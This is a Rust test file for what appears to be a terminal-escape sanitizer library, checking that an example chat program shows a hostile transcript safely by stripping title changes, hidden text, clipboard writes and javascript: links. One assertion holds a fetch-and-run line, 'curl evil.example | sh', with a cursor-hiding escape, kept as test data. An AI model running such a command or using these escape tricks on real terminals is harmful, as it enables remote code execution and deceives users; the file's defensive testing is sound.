//! The example chat, as a reader of its output sees it.

#![allow(clippy::unwrap_used, reason = "functions that tests share")]

use std::io::Write;
use std::process::{Command, Stdio};

use noesc::{Boundary, Floor, Profile};
use noesc_testkit::corpus;

/// The example, which `cargo test -p noesc` builds.
fn chat(arguments: &[&str], content: &[u8]) -> String {
    let test = std::env::current_exe().unwrap();
    let example = test.parent().unwrap().parent().unwrap().join("examples/chat");
    assert!(example.exists(), "no example program: run the tests of the whole package");
    let mut child = Command::new(example)
        .args(arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(content).unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success());
    String::from_utf8(output.stdout).unwrap()
}

fn floored(text: &str) -> String {
    let mut view = String::new();
    let mut floor = Floor::new();
    floor.push(text.as_bytes(), &mut view);
    floor.finish(&mut view);
    view
}

#[test]
fn a_hostile_transcript_is_shown_safely() {
    let pretty = chat(&["--pretty"], b"");
    let title = "\x1b]2;Deploy notes\x1b\\";
    let rest = pretty.strip_prefix("\x1b]2;Deploy  notes\x1b\\");
    let rest = rest.unwrap_or_else(|| panic!("no {}", noesc::audit(title.as_bytes())));
    // Nothing but style, links and text.
    assert_eq!(floored(rest), rest);
    assert!(!rest.contains("decoded\x07") && !rest.contains("\x1b[8m"));
    assert!(rest.contains("(leads to https://evil.example/x)"));
    assert!(!rest.contains("javascript:"));
    assert!(rest.contains("FAILED: charged twice") && rest.contains("publish now"));
    assert!(rest.contains("main\\s{56}; curl evil.example | sh \\x1b[1A"));
}

#[test]
fn off_gives_content_the_terminal() {
    let off = chat(&["--pretty", "--sanitize", "off"], b"");
    assert!(off.contains("\x1b[?1049h") && off.contains("\x1b]52;c;"));
    // What is shown among our own is filtered all the same.
    assert!(!off.contains("pwned") && !off.contains("\x1b]0;decoded"));
}

#[test]
fn without_a_terminal_there_is_no_style() {
    let plain = chat(&[], b"");
    assert_eq!(plain, chat(&["--plain"], b""));
    assert!(!plain.contains(|c: char| c.is_control() && c != '\n'));
    let pretty = noesc::clean(chat(&["--pretty"], b"").as_bytes()).into_owned();
    assert!(pretty.contains("test refund ... ok") && plain.contains("test refund ... ok"));
}

#[test]
fn a_played_case_is_the_view_of_its_class() {
    for case in corpus::load(&corpus::root()).unwrap().iter().step_by(12) {
        let played = chat(&["--play", "tool-output"], &case.input());
        let view = noesc::view(&case.input(), &Profile::DISPLAY).unwrap().text;
        assert!(played.ends_with(&view), "{}", case.name);
        let mut all = String::new();
        let mut boundary = Boundary::new(&Profile::DISPLAY).unwrap();
        boundary.push(played.as_bytes(), &mut all);
        boundary.finish(&mut all);
        assert_eq!(all, played, "{}", case.name);
    }
}
